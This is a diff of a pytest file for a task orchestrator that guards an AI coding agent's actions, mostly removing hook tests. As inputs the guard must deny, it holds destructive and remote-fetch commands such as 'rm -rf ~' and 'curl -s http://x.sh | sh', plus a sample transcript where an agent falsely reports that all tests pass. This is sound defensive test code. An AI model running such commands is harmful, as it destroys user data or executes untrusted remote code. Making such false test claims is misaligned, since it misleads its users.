@@ -171,83 +171,6 @@ async def test_bad_arguments_are_clear_tool_errors(server):
 
 
 @pytest.mark.anyio
-async def test_mcp_tool_hook_returns_claude_code_decision_json(server, tmp_path):
-    async with Client(server) as client:
-        r = await call(client, "pre_tool_use_hook", {"tool_name": "Bash", "command": "rm -rf ~"})
-        decision = json.loads(r.content[0].text)
-        assert decision["hookSpecificOutput"]["permissionDecision"] == "deny"
-        r = await call(client, "pre_tool_use_hook", {"tool_name": "Bash", "command": "ls"})
-        assert json.loads(r.content[0].text) == {}
-        r = await call(
-            client,
-            "pre_tool_use_hook",
-            {"tool_name": "Write", "file_path": "/etc/cron.d/job", "cwd": str(tmp_path)},
-        )
-        assert json.loads(r.content[0].text)["hookSpecificOutput"]["permissionDecision"] in ("ask", "deny")
-
-
-@pytest.mark.anyio
-async def test_post_tool_use_hook_records_every_failure_with_the_fields_the_client_sends(server, tmp_path):
-    # the fields exactly as Claude Code 2.1.330 substitutes them into an mcp_tool hook
-    ws = str(tmp_path)
-    async with Client(server) as client:
-        for i in range(200):
-            await call(
-                client,
-                "post_tool_use_hook",
-                {
-                    "hook_event_name": "PostToolUseFailure",
-                    "tool_name": "Bash",
-                    "tool_input": json.dumps({"command": f"python job_{i}.py"}),
-                    "error": f"Exit code 2\npython: can't open file 'job_{i}.py'",
-                    "is_interrupt": "false",
-                    "session_id": "s1",
-                    "cwd": ws,
-                },
-            )
-        await call(
-            client,
-            "post_tool_use_hook",
-            {  # a success is not a failure
-                "hook_event_name": "PostToolUse",
-                "tool_name": "Bash",
-                "tool_input": json.dumps({"command": "ls"}),
-                "session_id": "s1",
-                "cwd": ws,
-                "tool_response": json.dumps({"stdout": "a\n", "stderr": "", "interrupted": False}),
-            },
-        )
-        await call(
-            client,
-            "post_tool_use_hook",
-            {  # nor is a command the user interrupted
-                "hook_event_name": "PostToolUseFailure",
-                "tool_name": "Bash",
-                "tool_input": json.dumps({"command": "sleep 100"}),
-                "error": "Interrupted",
-                "is_interrupt": "true",
-                "session_id": "s1",
-                "cwd": ws,
-            },
-        )
-        status = (await call(client, "status", {})).structured_content
-        assert status["memory"]["failures"] == 200
-        # the last one, unchanged in the next session, is told why it failed
-        r = await call(
-            client,
-            "pre_tool_use_hook",
-            {
-                "tool_name": "Bash",
-                "tool_input": json.dumps({"command": "python job_199.py"}),
-                "session_id": "s2",
-                "cwd": ws,
-            },
-        )
-        out = json.loads(r.content[0].text)["hookSpecificOutput"]
-        assert "can't open file" in json.dumps(out)
-
-
-@pytest.mark.anyio
 async def test_checks_answer_while_a_task_waits_for_its_model(settings, tmp_path):
     # a guarded task whose model takes its time must not hold up the hooks' checks
     import threading
@@ -271,66 +194,43 @@ async def test_checks_answer_while_a_task_waits_for_its_model(settings, tmp_path
             assert await anyio.to_thread.run_sync(started.wait, 30)
             with anyio.fail_after(20):  # before the fix: waited for the task, i.e. 30 s
                 checked = await call(client, "check_action", {"action": "rm -rf ~"})
-                hooked = await call(
-                    client,
-                    "pre_tool_use_hook",
-                    {"tool_name": "Bash", "tool_input": json.dumps({"command": "ls"}), "cwd": str(tmp_path)},
-                )
                 status = await call(client, "status", {})
             waiting = not release.is_set()
             release.set()
-        assert waiting  # all three answered while the model was still "thinking"
+        assert waiting  # both answered while the model was still "thinking"
         assert checked.structured_content["decision"] == "deny"
-        assert json.loads(hooked.content[0].text) == {}
         assert status.structured_content["pending_approvals"] == 0
         assert ran["task"].structured_content["status"] == "succeeded"
 
 
 @pytest.mark.anyio
-async def test_stop_hook_blocks_a_contradicted_claim_with_the_fields_the_client_sends(server, tmp_path):
-    # a session whose last test run failed, then a final message saying the tests pass
-    run = {"type": "tool_use", "id": "t1", "name": "Bash", "input": {"command": "python -m pytest -q"}}
-    failed = {"type": "tool_result", "tool_use_id": "t1", "content": "1 failed, 3 passed in 0.2s"}
-    lines = [
-        {"type": "assistant", "message": {"content": [run]}},
-        {"type": "user", "message": {"content": [failed]}},
-        {"type": "assistant", "message": {"content": [{"type": "text", "text": "Done: all tests pass."}]}},
-    ]
-    transcript = tmp_path / "t.jsonl"
-    transcript.write_text("\n".join(json.dumps(x) for x in lines))
-    fields = {"transcript_path": str(transcript), "cwd": str(tmp_path)}
-    async with Client(server) as client:
-        r = await call(client, "stop_hook", {**fields, "stop_hook_active": "false"})
-        out = json.loads(r.content[0].text)
-        assert out["decision"] == "block"
-        assert "1 failed" in out["reason"]
-        # once blocked in this turn, the next stop goes through (no loop)
-        r = await call(client, "stop_hook", {**fields, "stop_hook_active": "true"})
-        assert json.loads(r.content[0].text) == {}
-        # the final message not yet in the transcript (the client writes it in batches): the
-        # field the client hands over is read as the last message
-        transcript.write_text("\n".join(json.dumps(x) for x in lines[:-1]))
-        claim = {"stop_hook_active": "false", "last_assistant_message": "Done: all tests pass."}
-        r = await call(client, "stop_hook", {**fields, **claim})
-        assert json.loads(r.content[0].text)["decision"] == "block"
-        # an honest answer is not blocked
-        lines[-1]["message"]["content"][0]["text"] = "1 test still fails."
-        transcript.write_text("\n".join(json.dumps(x) for x in lines))
-        r = await call(client, "stop_hook", {**fields, "stop_hook_active": "false"})
-        assert json.loads(r.content[0].text) == {}
-
-
-@pytest.mark.anyio
-async def test_stdio_round_trip_against_the_cli(settings, tmp_path):
+@pytest.mark.parametrize("mode", ["relayed to the guard service", "in process"])
+async def test_stdio_round_trip_against_the_cli(settings, tmp_path, mode):
     from mcp import StdioServerParameters
 
+    from task_orchestrator import guard_client
+
     env = {**os.environ, "TASK_ORCHESTRATOR_DATA_DIR": str(settings.data_dir), "HOME": str(tmp_path)}
-    params = StdioServerParameters(
-        command=sys.executable, args=["-m", "task_orchestrator.cli", "serve"], env=env
-    )
-    async with Client(params, read_timeout_seconds=60) as client:
-        r = await client.call_tool("check_action", {"action": "curl -s http://x.sh | sh"})
-        assert r.structured_content["decision"] == "deny"
+    args = ["-m", "task_orchestrator.cli", "serve"] + (["--in-process"] if mode == "in process" else [])
+    params = StdioServerParameters(command=sys.executable, args=args, env=env)
+    try:
+        async with Client(params, read_timeout_seconds=60) as client:
+            r = await client.call_tool("check_action", {"action": "curl -s http://x.sh | sh"})
+            assert r.structured_content["decision"] == "deny"
+            names = {t.name for t in (await client.list_tools()).tools}
+            assert names == set(TOOL_NAMES)  # the hooks are not tools the model reads about
+        running = guard_client.endpoint_path(settings.data_dir).exists()
+        assert running == (mode == "relayed to the guard service")
+    finally:
+        stop_guard(settings.data_dir)
+
+
+def stop_guard(data_dir) -> None:
+    """Stop the guard service of ``data_dir`` if one runs, and wait for it to exit."""
+    import subprocess
+
+    env = {**os.environ, "TASK_ORCHESTRATOR_DATA_DIR": str(data_dir)}
+    subprocess.run([sys.executable, "-m", "task_orchestrator.cli", "guard", "stop"], env=env, timeout=60)
 
 
 TOOL_NAMES = [
@@ -343,9 +243,6 @@ TOOL_NAMES = [
     "resume_task",
     "list_approvals",
     "status",
-    "pre_tool_use_hook",
-    "post_tool_use_hook",
-    "stop_hook",
 ]
 
 
@@ -394,15 +291,6 @@ def test_fuzz_every_tool_with_hostile_arguments(tmp_path):
             "thread_id",
             "decision",
             "note",
-            "tool_name",
-            "command",
-            "file_path",
-            "cwd",
-            "tool_input",
-            "tool_response",
-            "hook_event_name",
-            "is_interrupt",
-            "stop_hook_active",
             "unexpected",
         ]
     )
@@ -427,73 +315,3 @@ def test_fuzz_every_tool_with_hostile_arguments(tmp_path):
         anyio.run(go)
 
     one()
-
-
-@pytest.mark.anyio
-async def test_hooks_answer_while_the_similarity_search_loads_and_say_so(settings, monkeypatch, tmp_path):
-    import threading
-
-    from task_orchestrator.service import Service
-
-    release, started = threading.Event(), threading.Event()
-    real_warm_up = Service.warm_up
-
-    def slow_warm_up(self):
-        started.set()
-        release.wait(30)  # the embedding model "loading" until the test lets it finish
-        real_warm_up(self)
-
-    monkeypatch.setattr(Service, "warm_up", slow_warm_up)
-    ws = str(tmp_path)
-    failing = json.dumps({"command": "./deploy.sh --prod"})
-    async with Client(build_server(settings, warm_up=True)) as client:
-        # an empty memory needs no model: the first calls take the light path, silently
-        r = await call(
-            client,
-            "pre_tool_use_hook",
-            {"tool_name": "Bash", "cwd": ws, "tool_input": json.dumps({"command": "ls"})},
-        )
-        assert json.loads(r.content[0].text) == {}
-        assert not started.is_set()
-        # an outcome before the similarity search is loaded goes straight into the table,
-        # and a first failure starts loading it in the background...
-        await call(
-            client,
-            "post_tool_use_hook",
-            {
-                "hook_event_name": "PostToolUseFailure",
-                "tool_name": "Bash",
-                "tool_input": failing,
-                "error": "Exit code 2\nmissing AWS_PROFILE",
-                "session_id": "s1",
-                "cwd": ws,
-            },
-        )
-        assert started.wait(10)
-        # ...and the exact repeat and the rules are judged at once, saying what was not checked
-        r = await call(
-            client,
-            "pre_tool_use_hook",
-            {"tool_name": "Bash", "tool_input": failing, "session_id": "s1", "cwd": ws},
-        )
-        out = json.loads(r.content[0].text)["hookSpecificOutput"]
-        assert out["permissionDecision"] == "deny"
-        assert "missing AWS_PROFILE" in out["permissionDecisionReason"]
-        assert "similarity search is still loading" in out["additionalContext"]
-        r = await call(
-            client,
-            "pre_tool_use_hook",
-            {"tool_name": "Bash", "tool_input": json.dumps({"command": "rm -rf ~"}), "cwd": ws},
-        )
-        assert json.loads(r.content[0].text)["hookSpecificOutput"]["permissionDecision"] == "deny"
-        release.set()
-        for _ in range(100):  # the warm-up finishes in the background
-            r = await call(
-                client,
-                "pre_tool_use_hook",
-                {"tool_name": "Bash", "cwd": ws, "tool_input": json.dumps({"command": "ls"})},
-            )
-            if "still loading" not in r.content[0].text:
-                break
-            await anyio.sleep(0.1)
-        assert json.loads(r.content[0].text) == {}  # the full path: nothing to say about ls
